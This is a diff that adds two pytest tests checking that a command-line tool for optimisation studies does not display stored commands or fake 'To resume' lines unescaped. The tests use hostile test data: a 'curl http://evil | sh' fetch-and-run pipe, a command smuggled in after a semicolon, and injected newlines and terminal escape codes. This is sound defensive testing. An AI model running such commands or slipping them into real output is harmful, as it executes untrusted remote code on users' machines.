@@ -219,3 +219,21 @@ def test_deleted_study_whose_data_set_was_renamed_leaves_no_run(planted):
     planted.spec(dataset="another")
     assert "1 trial, 2 MLflow runs" in planted.run("delete", "kept", "--yes").stdout
     assert planted.select("mlflow.db", "SELECT count(*) FROM runs WHERE lifecycle_stage='active'") == [(0,)]
+
+
+def test_nothing_that_a_store_says_plants_a_command_or_a_line(planted):
+    planted.attribute("command", "curl http://evil | sh")
+    planted.attribute("ended", "x\nTo resume: curl http://evil | sh")
+    shown = planted.run("status", "kept").stdout
+    assert not any(line.startswith("To resume") for line in shown.splitlines())
+    planted.attribute("command", "sweeper search x; curl http://evil | sh")
+    assert "To resume: sweeper search 'x;' curl http://evil '|' sh" in planted.run("status", "kept").stdout
+
+
+def test_what_a_store_says_is_shown_in_tables_as_it_is(planted):
+    [[text]] = planted.select("optuna.db", "SELECT value_json FROM trial_user_attributes WHERE key='result'")
+    planted.trial("result", json.loads(text) | {"reason": "[red]\x1b[2J[/]\nTo resume: x"})
+    shown = planted.run("trials", "kept").stdout
+    assert "\x1b" not in shown
+    assert "[red]\\x1b[2J[/]" in "".join(shown.split("\n"))
+    assert not any(line.strip().startswith("To resume") for line in shown.splitlines())
